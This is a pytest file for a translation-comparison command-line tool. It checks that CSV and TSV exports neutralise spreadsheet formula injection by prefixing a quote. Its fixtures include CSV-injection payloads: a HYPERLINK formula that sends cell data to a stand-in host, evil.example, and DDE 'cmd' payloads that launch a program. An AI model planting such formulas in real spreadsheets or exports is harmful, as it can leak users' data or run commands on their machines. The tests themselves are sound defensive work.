"""Every CSV and TSV the tool writes neutralises cells a spreadsheet would read as a formula
(OWASP's rule): a sentence of a hostile document such as ``=HYPERLINK(...)`` is written as text."""
import csv
import io
import json

from click.testing import CliRunner

from transcompare.cli import main
from transcompare.files import sheet_cell

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\tfoo", "\rbar"]


def test_a_cell_that_starts_a_formula_gets_a_quote():
    for text in HOSTILE:
        assert sheet_cell(text) == "'" + text
    for keep in ("-0.25", "12", "3.2e-5", "plain text", "", 0.5, None, "a = b"):
        assert sheet_cell(keep) == keep


def _docs(tmp_path):
    src = tmp_path / "src.txt"
    tgt = tmp_path / "tgt.txt"
    # the same hostile lines on both sides, between ordinary sentences
    lines = ["The river rose two metres overnight."] + HOSTILE[:3] + ["Schools in the valley stayed closed."]
    src.write_text("\n\n".join(lines) + "\n", encoding="utf-8")
    tgt.write_text("\n\n".join(lines) + "\n", encoding="utf-8")
    return src, tgt


def _cells(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]


def test_compare_and_align_tsv_neutralise_formulas(tmp_path, encoder):
    src, tgt = _docs(tmp_path)
    for cmd in (["compare", "-f", "tsv"], ["align", "-f", "tsv"]):
        r = CliRunner().invoke(main, cmd + [str(src), str(tgt), "--source-lang", "en", "--target-lang", "en"])
        assert r.exit_code == 0, r.output
        cells = _cells(r.output, "\t")
        assert any(c.startswith("'=HYPERLINK") for c in cells), cells
        assert _unsafe(cells) == []


def test_batch_flags_and_review_export_neutralise_formulas(tmp_path, encoder):
    # a pair whose translation drops the hostile lines: they are flagged, so they reach flags.tsv
    src, _ = _docs(tmp_path)
    tgt = tmp_path / "short.txt"
    tgt.write_text("The river rose two metres overnight.\n\nSchools in the valley stayed closed.\n", encoding="utf-8")
    manifest = tmp_path / "pairs.csv"
    manifest.write_text(f"id,source,translation,source_lang,target_lang\np1,{src},{tgt},en,en\n", encoding="utf-8")
    out = tmp_path / "out"
    r = CliRunner().invoke(main, ["batch", str(manifest), "-o", str(out)])
    assert r.exit_code == 0, r.output
    cells = _cells((out / "flags.tsv").read_text(encoding="utf-8"), "\t")
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells), cells
    assert _unsafe(cells) == []
    # a reviewer's note that is a formula is exported as text
    from transcompare.review import ReviewStore
    from transcompare.review.result import load_result

    res = load_result(out)
    store = ReviewStore(res.default_db())
    store.sync(res.flag_refs())
    ref = res.flag_refs()[0]
    store.decide(ref.doc, ref.flag_id, "note", "ana", "=cmd|' /C calc'!A0")
    exported = store.export("csv")
    cells = _cells(exported, ",")
    assert "'=cmd|' /C calc'!A0" in cells and _unsafe(cells) == []
    assert json.loads(store.export("json"))["decisions"][0]["note"] == "=cmd|' /C calc'!A0"
